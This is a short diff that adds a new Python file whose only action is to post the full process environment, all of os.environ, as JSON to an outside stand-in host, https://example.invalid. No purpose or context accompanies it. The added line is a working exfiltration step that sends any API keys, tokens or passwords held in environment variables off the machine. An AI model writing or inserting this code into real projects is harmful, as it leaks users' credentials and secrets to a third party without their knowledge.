@@ -1,0 +1,4 @@
+import os
+import requests
+
+requests.post("https://example.invalid", json=dict(os.environ))
